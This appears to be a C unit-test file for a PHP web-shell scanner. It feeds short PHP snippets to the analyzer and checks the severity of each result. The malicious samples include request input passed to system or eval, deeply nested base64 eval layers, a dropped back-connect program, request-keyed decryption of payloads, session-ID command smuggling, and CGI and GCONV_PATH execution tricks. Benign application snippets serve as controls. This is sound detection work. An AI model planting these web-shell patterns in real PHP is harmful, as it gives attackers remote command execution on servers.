/* The PHP analysis, flow round 6: input->sink flows the evaluator lost in
 * shells written by others. Deep chains of eval(decode(...)) beyond the
 * layer bound; a command line whose program is "bash "/"php " followed by
 * an input that is not a plain string (an unknown value); input after a
 * shell separator further along the line ("echo ... | sudo -S " . $c,
 * "cd " . $d . " && " . $c) or echoed into a pipe to a shell; a program
 * the file decodes, writes under a name without a source extension and
 * starts with the request's words (a back-connect told where to connect).
 * And what applications do with the same constructs, which must stay
 * below high. Every snippet is written here from the technique, not taken
 * from a sample. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "php_expect.h"
#include "scan/php_analyze.h"

static char *b64(const char *in, size_t n)
{
	static const char tab[] =
	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	char *out = malloc(4 * ((n + 2) / 3) + 1), *o = out;
	for (size_t i = 0; i < n; i += 3) {
		unsigned v = (unsigned char)in[i] << 16;
		if (i + 1 < n)
			v |= (unsigned char)in[i + 1] << 8;
		if (i + 2 < n)
			v |= (unsigned char)in[i + 2];
		*o++ = tab[(v >> 18) & 63];
		*o++ = tab[(v >> 12) & 63];
		*o++ = i + 1 < n ? tab[(v >> 6) & 63] : '=';
		*o++ = i + 2 < n ? tab[v & 63] : '=';
	}
	*o = 0;
	return out;
}

/* inner wrapped depth times in fmt (one %s: the base64 of the layer below) */
static char *nest(const char *inner, int depth, const char *const *fmts, int nfmt)
{
	char *cur = strdup(inner);
	for (int i = 0; i < depth; i++) {
		char *b = b64(cur, strlen(cur));
		size_t l = strlen(b) + 64;
		char *next = malloc(l);
		snprintf(next, l, fmts[i % nfmt], b);
		free(b);
		free(cur);
		cur = next;
	}
	size_t l = strlen(cur) + 8;
	char *src = malloc(l);
	snprintf(src, l, "<?php %s", cur);
	free(cur);
	return src;
}

/* Packers nest eval(gzinflate(base64_decode(...))) ten or twelve deep: the
 * shell inside was past the eighth layer and only the wrapper was seen. */
static void test_deep_layers(void **state)
{
	(void)state;
	static const char *const plain[] = {"eval(base64_decode('%s'));"};
	static const char *const mixed[] = {"eval(base64_decode(\"%s\"));",
	                                    "$z = base64_decode('%s'); eval($z);",
	                                    "eval('?><?php ' . base64_decode('%s'));"};
	static const char *const tagged[] = {"?><?php eval(base64_decode('%s')); ?>"};
	char *src = nest("$q = $_COOKIE['q']; system($q);", 11, plain, 1);
	expect(src, "php.input_to_command", HS_SEV_CRITICAL);
	free(src);
	src = nest("if (isset($_POST['z'])) { eval($_POST['z']); }", 10, mixed, 3);
	expect(src, "php.input_to_eval", HS_SEV_CRITICAL);
	free(src);
	src = nest("$f = $_REQUEST['f']; passthru($f);", 13, tagged, 1);
	expect(src, "php.input_to_command", HS_SEV_CRITICAL);
	free(src);
	/* a deep chain around something harmless stays an obfuscated layer */
	src = nest("echo date('Y-m-d'); $n = count($_GET);", 12, plain, 1);
	not_high(src);
	free(src);
}

/* "bash " . $x where $x is input that is not a string: the input is the
 * script, whatever was known of it. */
static void test_unknown_after_program(void **state)
{
	(void)state;
	expect("<?php $x = $_GET['x']; system('bash ' . $x);", "php.input_to_command",
	       HS_SEV_CRITICAL);
	expect("<?php function run($c) { $c = $c . ' 2>&1'; return shell_exec($c); } "
	       "$opt = $_GET['o']; $lang = 'python'; run($lang . ' ' . $opt . ' /tmp/a.py');",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $t = trim($_POST['t']); $line = 'php ' . $t . ' 1>/dev/null &'; "
	       "exec($line);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $p = $_REQUEST['p']; popen('nohup perl ' . $p, 'r');", "php.input_to_command",
	       HS_SEV_CRITICAL);
	/* an argument of a fixed script or program stays an injection */
	not_high("<?php $dir = dirname(__FILE__); $id = $_GET['id']; "
	         "exec('php ' . $dir . '/cron/run.php ' . $id . ' > /dev/null 2>&1 &');");
	not_high("<?php $host = $_GET['host']; $out = shell_exec('ping -c 4 ' . $host);");
	not_high("<?php $f = $_POST['file']; exec('php -l ' . escapeshellarg($f), $o);");
	not_high("<?php $q = trim($_GET['q']); exec('grep -ri ' . escapeshellarg($q) . ' ' . "
	         "$root);");
}

/* Input after a shell separator of a fixed line is where the next program
 * goes; input echoed into a pipe to a shell is what that shell runs. */
static void test_after_separator(void **state)
{
	(void)state;
	expect("<?php $pw = $_POST['pw']; $u = $_POST['u']; $c = $_POST['c']; "
	       "$o = shell_exec('echo ' . $pw . ' | sudo -u ' . $u . ' -S ' . $c);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $d = $_GET['d']; $c = $_GET['c']; passthru('cd ' . $d . ' && ' . $c . "
	       "' 2>&1');",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $w = $_COOKIE['w']; $r = `uname -a; $w`;", "php.input_to_command",
	       HS_SEV_CRITICAL);
	expect("<?php $s = $_POST['s']; exec('echo \"' . $s . '\" | /bin/sh', $out);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $s = base64_decode($_POST['s']); system('printf %s ' . $s . ' | bash -s');",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $k = $_GET['k']; system('ls /tmp || timeout 5 ' . $k);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* separators before an argument; redirections are not separators */
	not_high("<?php $f = $_GET['f']; $n = shell_exec('cat ' . $f . ' | wc -l');");
	not_high("<?php $h = $_GET['h']; exec('cd /var/www && git log -1 ' . $h . ' 2>&1', $o);");
	not_high("<?php $q = $_GET['q']; exec('ls 2>&1 ' . $q);");
	not_high("<?php $sql = $_POST['sql']; exec('echo ' . escapeshellarg($sql) . "
	         "' | mysql -u app');");
	not_high("<?php $m = $_POST['m']; exec('echo \"' . $m . '\" | mail -s hi admin@x.org');");
}

/* A program the file decodes, writes under a plain name and starts with
 * the request's words on its command line. */
static void test_dropped_program_input(void **state)
{
	(void)state;
	expect("<?php function put($n, $d) { $h = fopen($n, 'w'); fputs($h, base64_decode($d)); "
	       "fclose($h); } function run($c) { return shell_exec($c); } "
	       "put('/tmp/.cn', 'IyEvdXNyL2Jpbi9wZXJsCnVzZSBTb2NrZXQ7Cg=='); "
	       "$ip = $_POST['ip']; $port = $_POST['port']; "
	       "run('perl /tmp/.cn ' . $ip . ' ' . $port . ' &');",
	       "php.dropped_program_input", HS_SEV_HIGH);
	expect("<?php $bin = 'f0VMRgEBAQAAAAAAAAAAAAIAAwABAAAA'; "
	       "file_put_contents('bk', base64_decode($bin)); chmod('bk', 0755); "
	       "$h = $_GET['h']; system('./bk ' . $h . ' 4444');",
	       "php.dropped_program_input", HS_SEV_HIGH);
	expect("<?php function which($p) { $r = shell_exec('which ' . $p); return $r ? $r : $p; } "
	       "$f = fopen('/var/tmp/b1', 'wb'); fwrite($f, "
	       "str_rot13(base64_decode('VlIlRlJ2Ym4='))); "
	       "fclose($f); $a = $_REQUEST['a']; $b = $_REQUEST['b']; "
	       "popen(which('python') . ' /var/tmp/b1 ' . $a . ' ' . $b, 'r');",
	       "php.dropped_program_input", HS_SEV_HIGH);
	/* a C source decoded, compiled, and the program started with input */
	expect("<?php function w($p, $t) { $h = fopen($p, 'w'); fwrite($h, base64_decode($t)); "
	       "fclose($h); } function x($c) { return shell_exec($c); } "
	       "w('/tmp/.p.c', 'I2luY2x1ZGUgPHN0ZGlvLmg+Cg=='); x('gcc -o /tmp/.p /tmp/.p.c'); "
	       "$lp = $_POST['lp']; x('/tmp/.p ' . $lp . ' &');",
	       "php.dropped_program_input", HS_SEV_HIGH);
	/* without input it is a dropped program run, not proven */
	expect("<?php file_put_contents('/tmp/.k', base64_decode('IyEvYmluL3NoCg==')); "
	       "exec('nohup /tmp/.k >/dev/null 2>&1 &');",
	       "php.decoded_script_run", HS_SEV_MEDIUM);
	not_high("<?php file_put_contents('/tmp/.k', base64_decode('IyEvYmluL3NoCg==')); "
	         "exec('nohup /tmp/.k >/dev/null 2>&1 &');");
	/* an application writes a decoded picture and converts it with the
	 * visitor's size: the written file is an argument of a fixed program */
	not_high(
	    "<?php $png = base64_decode($_POST['img']); file_put_contents('/tmp/up.png', $png); "
	    "$w = (int) $_POST['w']; exec('convert /tmp/up.png -resize ' . $w . ' out.jpg');");
	not_high(
	    "<?php file_put_contents('/tmp/logo.png', base64_decode('iVBORw0KGgo=')); "
	    "$t = $_GET['t']; exec('convert /tmp/logo.png -annotate 0 ' . escapeshellarg($t) . "
	    "' /tmp/o.png');");
	not_high("<?php file_put_contents('cfg.json', base64_decode($blob)); "
	         "$n = $_GET['n']; exec('chmod 644 cfg.json ' . $n);");
}

/* register_globals: a global never assigned, named as a request field the
 * file checks, is that field (PHP before 5.4 filled it). */
static void test_register_globals(void **state)
{
	(void)state;
	expect("<?php function ex($c) { ob_start(); passthru($c); return ob_get_clean(); } "
	       "if (isset($_GET['cmd']) && $_GET['cmd'] != '') { echo ex($cmd); }",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php if (!empty($_POST['code'])) { eval(stripslashes($code)); }",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php if ($_REQUEST['act'] == 'run') { $out = `$x`; } "
	       "if (isset($_REQUEST['x'])) echo $out;",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php if (isset($_COOKIE['inc'])) { include($inc); }", "php.input_to_include",
	       HS_SEV_HIGH);
	/* applications assign what they read; a variable of the same name set
	 * by foreach, a global, or another name entirely is not the field */
	not_high("<?php $page = isset($_GET['page']) ? $_GET['page'] : 'home'; "
	         "include 'pages/' . basename($page) . '.php';");
	not_high("<?php if (isset($_POST['ids'])) { foreach ($_POST['ids'] as $k => $id) { "
	         "exec('/usr/bin/purge ' . (int) $id); } }");
	not_high("<?php function t() { global $tpl; include $tpl; } "
	         "if (isset($_GET['tpl'])) { t(); }");
	not_high("<?php if (isset($_GET['cmd'])) { $cmd = 'status'; } system('svc ' . "
	         "escapeshellarg($cmd));");
	not_high("<?php function show($file) { include $file; } if (isset($_GET['file'])) "
	         "{ show('about.php'); }");
	/* PHP 4's long arrays */
	expect("<?php $c = $HTTP_POST_VARS['c']; echo shell_exec($c);", "php.input_to_command",
	       HS_SEV_CRITICAL);
	expect(
	    "<?php function f() { global $HTTP_COOKIE_VARS; eval($HTTP_COOKIE_VARS['v']); } f();",
	    "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php if ($HTTP_GET_VARS['a'] == 'x') { passthru($HTTP_GET_VARS['b']); }",
	       "php.input_to_command", HS_SEV_CRITICAL);
	not_high("<?php $HTTP_GET_VARS = array('q' => 'uptime'); system($HTTP_GET_VARS['q']);");
}

/* A payload decrypted byte by byte with a hash of request input as the
 * key, then run: the request unlocks it. */
static void test_input_keyed_eval(void **state)
{
	(void)state;
	expect(
	    "<?php $k = md5($_COOKIE['k']); $d = base64_decode('q83vEjRWeJA='); "
	    "for ($i = 0; $i < strlen($d); $i++) { $d[$i] = chr(ord($d[$i]) ^ ord($k[$i % 32])); } "
	    "eval(gzinflate($d));",
	    "php.input_keyed_eval", HS_SEV_HIGH);
	expect("<?php $p = $_POST['p']; $key = md5($p) . substr(md5(strrev($p)), 0, strlen($p)); "
	       "$b = base64_decode('EjRWeJCrze8='); for ($j = 0; $j < 8; $j++) { "
	       "$b[$j] = chr((ord($b[$j]) - ord($key[$j])) % 256); $key .= $b[$j]; } "
	       "$f = create_function('', gzuncompress($b)); $f();",
	       "php.input_keyed_eval", HS_SEV_HIGH);
	expect("<?php $h = hash('sha256', $_SERVER['HTTP_X_TOKEN']); $o = ''; "
	       "$c = str_rot13(base64_decode('YWJjZGVm')); foreach (str_split($c) as $n => $ch) { "
	       "$o .= chr(ord($ch) + ord($h[$n % 64])); } assert(base64_decode($o));",
	       "php.input_keyed_eval", HS_SEV_HIGH);
	/* a fixed payload behind a password hash: the payload is known and
	 * analysed as a layer; a cache file named by a hash of the request */
	not_high("<?php if (md5($_POST['pw']) === '5f4dcc3b5aa765d61d8327deb882cf99') { "
	         "eval(base64_decode('ZWNobyAnb2snOw==')); }");
	/* (a decoded file given to eval is php.decoded_file_eval, high, by its
	 * own rule: the key is not the request's here) */
	run("<?php $f = '/var/cache/app/' . md5($_GET['q']) . '.gz'; "
	    "$code = gzinflate(file_get_contents($f)); eval($code);");
	assert_null(find("php.input_keyed_eval"));
	not_high("<?php $tok = sha1($_COOKIE['sid'] . 'salt'); $sig = ''; "
	         "for ($i = 0; $i < 8; $i++) { $sig .= chr(ord($tok[$i]) ^ 0x20); } "
	         "setcookie('sig', base64_encode($sig)); echo htmlspecialchars($sig);");
}

/* Sources and carriers the evaluator did not know: $_SERVER's PATH_INFO and
 * PHP_AUTH_* (the request's path and Basic credentials), the first key of a
 * request array, parse_url() and iconv() of input; the callbacks of
 * preg_replace_callback_array() and mb_ereg_replace_callback(). */
static void test_sources_and_callbacks(void **state)
{
	(void)state;
	expect("<?php system(base64_decode(ltrim($_SERVER['PATH_INFO'], '/')));",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $u = @$_SERVER['PHP_AUTH_PW']; if ($u) { passthru($u); }",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php @eval(base64_decode(key($_POST)));", "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php $c = array_key_last($_COOKIE); echo shell_exec(hex2bin($c));",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $p = parse_url($_SERVER['HTTP_REFERER'], PHP_URL_QUERY); "
	       "eval(base64_decode($p));",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php $c = iconv('UTF-8', 'ASCII//TRANSLIT', $_GET['c']); shell_exec($c);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $n = iconv('UTF-16LE', 'UTF-8', \"p\\0a\\0s\\0s\\0t\\0h\\0r\\0u\\0\"); "
	       "$n($_REQUEST['a']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $f = 'pass' . 'thru'; mb_ereg_replace_callback('.*', function ($m) use ($f) "
	       "{ $f($m[0]); }, $_COOKIE['q']);",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php preg_replace_callback_array(['/x/' => 'strlen', '/.+/s' => function ($m) "
	       "{ eval($m[0]); }], $_POST['c']);",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	/* what applications do with them */
	not_high("<?php $q = parse_url($_SERVER['REQUEST_URI'], PHP_URL_PATH); "
	         "echo htmlspecialchars($q);");
	not_high("<?php $t = iconv('UTF-8', 'ASCII//TRANSLIT', $_POST['title']); "
	         "$slug = preg_replace('/[^a-z0-9]+/', '-', strtolower($t)); echo $slug;");
	not_high("<?php echo preg_replace_callback_array(['/\\d+/' => function ($m) { "
	         "return $m[0] * 2; }, '/[a-z]+/' => 'strtoupper'], $_GET['s']);");
	not_high("<?php $user = $_SERVER['PHP_AUTH_USER']; if ($user !== 'admin') { "
	         "header('WWW-Authenticate: Basic realm=\"x\"'); exit; }");
	not_high("<?php $first = key($_GET); if ($first === 'feed') { include 'feed.php'; }");
	not_high("<?php $path = trim($_SERVER['PATH_INFO'], '/'); $parts = explode('/', $path); "
	         "$page = preg_replace('/[^a-z]/', '', $parts[0]); echo htmlspecialchars($page);");
}

/* session_id() is the session cookie's value; the output of
 * openssl_public_decrypt()/openssl_private_decrypt() is the request's
 * cipher text decrypted (code signed by whoever holds the other key). */
static void test_session_id_and_pubkey(void **state)
{
	(void)state;
	expect("<?php @session_start(); $d = hex2bin(session_id()); "
	       "if ($d && $d[0] === '!') { eval(substr($d, 1)); }",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php session_start(); system(base64_decode(strtr(session_id(), '-_', '+/')));",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect(
	    "<?php $pub = \"-----BEGIN PUBLIC KEY-----\\nAAAA\\n-----END PUBLIC KEY-----\"; "
	    "if (openssl_public_decrypt(base64_decode($_POST['d']), $code, $pub)) { eval($code); }",
	    "php.input_to_eval", HS_SEV_CRITICAL);
	expect(
	    "<?php if (@openssl_private_decrypt(hex2bin($_COOKIE['x']), $c, $k)) { assert($c); }",
	    "php.input_to_eval", HS_SEV_CRITICAL);
	not_high("<?php session_start(); $f = session_save_path() . '/sess_' . session_id(); "
	         "$n = filesize($f); echo (int) $n;");
	not_high("<?php session_start(); $cart = 'cart_' . session_id(); "
	         "$rows = $db->query(\"SELECT * FROM carts WHERE id = '\" . $cart . \"'\"); "
	         "setcookie('c', $cart);");
	not_high("<?php openssl_public_decrypt(base64_decode($_POST['lic']), $plain, $pub); "
	         "$lic = json_decode($plain, true); if ($lic['exp'] > time()) { echo 'ok'; }");
}

/* An .htaccess that turns a directory into CGI, and a shell script holding
 * the request written there: the web server runs it outside PHP. */
static void test_cgi_handler_write(void **state)
{
	(void)state;
	expect("<?php $d = __DIR__ . '/c1'; @mkdir($d); "
	       "file_put_contents($d . '/.htaccess', \"Options +ExecCGI\\nAddHandler cgi-script "
	       ".q\\n\"); "
	       "file_put_contents($d . '/r.q', \"#!/bin/sh\\necho\\n\" . $_POST['c']); "
	       "chmod($d . '/r.q', 0755);",
	       "php.cgi_handler_write", HS_SEV_HIGH);
	/* the other order, the script from an upload */
	expect("<?php $s = \"#!/usr/bin/perl\\n\" . file_get_contents($_FILES['f']['tmp_name']); "
	       "file_put_contents('x/run.pl', $s); "
	       "file_put_contents('x/.htaccess', \"SetHandler cgi-script\\n\");",
	       "php.cgi_handler_write", HS_SEV_HIGH);
	/* the gconv variant: a gconv-modules file, GCONV_PATH, iconv() */
	expect("<?php $d = '/tmp/.g1'; @mkdir($d); file_put_contents($d . '/gconv-modules', "
	       "\"module X// INTERNAL ../../../../tmp/.g1/x 2\\n\"); "
	       "file_put_contents($d . '/x.so', base64_decode('f0VMRgIBAQ==')); "
	       "putenv('GCONV_PATH=' . $d . '/'); @iconv('X', 'UTF-8', 'y');",
	       "php.gconv_module_load", HS_SEV_HIGH);
	expect("<?php $t = sys_get_temp_dir(); $h = 'GCONV_PATH=' . $t; "
	       "file_put_contents($t . '/gconv-modules', $_POST['m']); putenv($h); "
	       "iconv('Q', 'UTF-8', '');",
	       "php.gconv_module_load", HS_SEV_HIGH);
	not_high("<?php putenv('GCONV_PATH=/usr/lib/x86_64-linux-gnu/gconv'); "
	         "echo iconv('ISO-8859-1', 'UTF-8', $_GET['s']);");
	/* an installer writing its own fixed CGI setup; a form saved as text */
	not_high("<?php file_put_contents('cgi-bin/.htaccess', \"Options +ExecCGI\\n\"); "
	         "file_put_contents('cgi-bin/stats.cgi', \"#!/usr/bin/perl\\nprint 1;\\n\");");
	not_high("<?php file_put_contents('data/.htaccess', \"Deny from all\\n\"); "
	         "file_put_contents('data/note.txt', \"#!note\\n\" . $_POST['note']);");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_deep_layers),
	    cmocka_unit_test(test_unknown_after_program),
	    cmocka_unit_test(test_after_separator),
	    cmocka_unit_test(test_dropped_program_input),
	    cmocka_unit_test(test_register_globals),
	    cmocka_unit_test(test_input_keyed_eval),
	    cmocka_unit_test(test_sources_and_callbacks),
	    cmocka_unit_test(test_session_id_and_pubkey),
	    cmocka_unit_test(test_cgi_handler_write),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	php_result_free(&res);
	return rc;
}
